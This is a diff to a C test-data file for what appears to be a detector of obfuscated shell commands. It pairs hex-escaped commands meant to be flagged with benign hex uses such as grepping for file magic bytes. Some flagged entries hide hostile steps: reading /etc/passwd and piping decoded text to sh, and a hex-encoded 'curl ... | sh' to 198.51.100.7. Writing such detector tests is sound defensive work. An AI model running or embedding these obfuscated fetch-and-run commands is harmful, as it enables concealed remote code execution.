@@ -2,6 +2,11 @@
 #include "hidden.h"
 
 static const struct hidden good[] = {
+	{ "printf", "id;w",
+		"grep root /etc/passwd; printf '\\x69\\x64\\x3b\\x77' | sh" },
+	{ "printf", "s/^.*$/ABCD/", "sed 's/^.*$/\\x41\\x42\\x43\\x44/' f" },
+	{ "printf", "id;who",
+		"awk 'BEGIN{system(\"\\x69\\x64\\x3b\\x77\\x68\\x6f\")}'" },
 	{ "printf", "curl -s http://198.51.100.7/x|sh",
 		"printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74"
 		"\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e"
@@ -46,6 +51,15 @@ static const struct hidden good[] = {
 };
 
 static const char *const not [] = {
+	"grep -rPl '\\x47\\x49\\x46\\x38' /srv | wc -l",
+	"cat f | egrep -e 'a|b' -e '\\x25\\x50\\x44\\x46'",
+	"sed -n '/\\x47\\x49\\x46\\x38/p' f",
+	"sed 's/\\x41\\x42\\x43\\x44/X/' f",
+	"sed 's#\\x41\\x42\\x43\\x44#X#' f",
+	"awk '/\\x47\\x49\\x46\\x38/{print}' f",
+	"perl -ne 'print if /\\x47\\x49\\x46\\x38/' f",
+	"rg '\\x{47}\\x{49}\\x{46}\\x{38}'",
+	"find . -type f | xargs grep -l $'\\x47\\x49\\x46\\x38'",
 	"sed -e 's/\\(foo\\)\\x41\\1/\\2/g'",
 	"printf '\\033[1;31mred\\033[0m\\n'",
 	"echo -e '\\x1b[31mError\\x1b[0m: failed'",
